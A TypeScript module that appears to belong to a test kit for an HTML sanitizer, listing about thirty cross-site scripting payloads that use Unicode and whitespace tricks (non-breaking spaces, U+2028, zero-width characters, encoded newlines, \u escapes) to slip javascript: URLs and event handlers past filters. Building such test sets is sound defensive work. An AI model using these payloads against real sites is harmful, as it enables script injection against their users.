import { JS, type XssPayload } from './xss-payload-kit';

/**
 * Unicode and whitespace tricks: characters a browser ignores in a URL scheme, characters that
 * look like separators but are not (U+00A0, U+2028, vertical tab), real separators that filters
 * forget (form feed, carriage return), percent-encoded line breaks, and `\u` escapes that only the
 * JavaScript engine decodes.
 */
export const unicode: XssPayload[] = [
  { name: 'href U+00A0 before javascript:', html: `<a href="\u00a0javascript:${JS}">x</a>` },
  { name: 'href U+00A0 inside javascript:', html: `<a href="java\u00a0script:${JS}">x</a>` },
  { name: 'href U+00A0 before the colon', html: `<a href="javascript\u00a0:${JS}">x</a>` },
  { name: 'href &nbsp; before javascript:', html: `<a href="&nbsp;javascript:${JS}">x</a>` },
  { name: 'U+00A0 between tag and attributes', html: `<img\u00a0src=x\u00a0onerror=${JS}>` },
  { name: 'U+00A0 before a handler', html: `<img src=x\u00a0onerror=${JS}>` },
  { name: 'U+00A0 before the equals sign', html: `<img src=x onerror\u00a0=${JS}>` },
  { name: 'href U+2028 before javascript:', html: `<a href="\u2028javascript:${JS}">x</a>` },
  { name: 'href U+2029 inside javascript:', html: `<a href="java\u2029script:${JS}">x</a>` },
  { name: 'U+2028 before a handler', html: `<img src=x\u2028onerror=${JS}>` },
  { name: 'href zero-width space inside javascript:', html: `<a href="java\u200bscript:${JS}">x</a>` },
  { name: 'href byte order mark before javascript:', html: `<a href="\ufeffjavascript:${JS}">x</a>` },
  { name: 'href soft hyphen inside javascript:', html: `<a href="java&shy;script:${JS}">x</a>` },
  { name: 'href &Tab; inside javascript:', html: `<a href="java&Tab;script:${JS}">x</a>` },
  { name: 'href &NewLine; inside javascript:', html: `<a href="java&NewLine;script:${JS}">x</a>` },
  { name: 'href newline before the colon', html: `<a href="javascript\n:${JS}">x</a>` },
  { name: 'href %0a after javascript:', html: `<a href="javascript:%0a${JS}">x</a>` },
  { name: 'href %0a inside javascript:', html: `<a href="java%0ascript:${JS}">x</a>` },
  { name: 'href %0d%0a before javascript:', html: `<a href="%0d%0ajavascript:${JS}">x</a>` },
  { name: '%0a between tag and handler', html: `<svg%0aonload=${JS}>` },
  { name: '%0d before a handler', html: `<img src=x%0donerror=${JS}>` },
  { name: 'form feed separators', html: `<img\fsrc=x\fonerror=${JS}>` },
  { name: 'carriage return separators', html: `<img\rsrc=x\ronerror=${JS}>` },
  { name: 'vertical tab before a handler', html: `<img src=x\vonerror=${JS}>` },
  { name: 'form feed after svg', html: `<svg\fonload=${JS}>` },
  { name: 'href \\u escapes in the script', html: `<a href="javascript:\\u0077indow.__xss=1">x</a>` },
  { name: 'handler \\u escapes in the code', html: `<img src=x onerror="\\u0077indow.__xss=1">` },
  { name: 'handler \\u escape in a property name', html: `<img src=x onerror="window['\\u005f_xss']=1">` },
  { name: 'href \\u escape for the scheme', html: `<a href="\\u006aavascript:${JS}">x</a>` },
  { name: 'fullwidth angle brackets', html: `\uff1cscript\uff1e${JS}\uff1c/script\uff1e` },
  { name: 'soft hyphen in a tag name', html: `<scr\u00adipt>${JS}</scr\u00adipt>` },
];
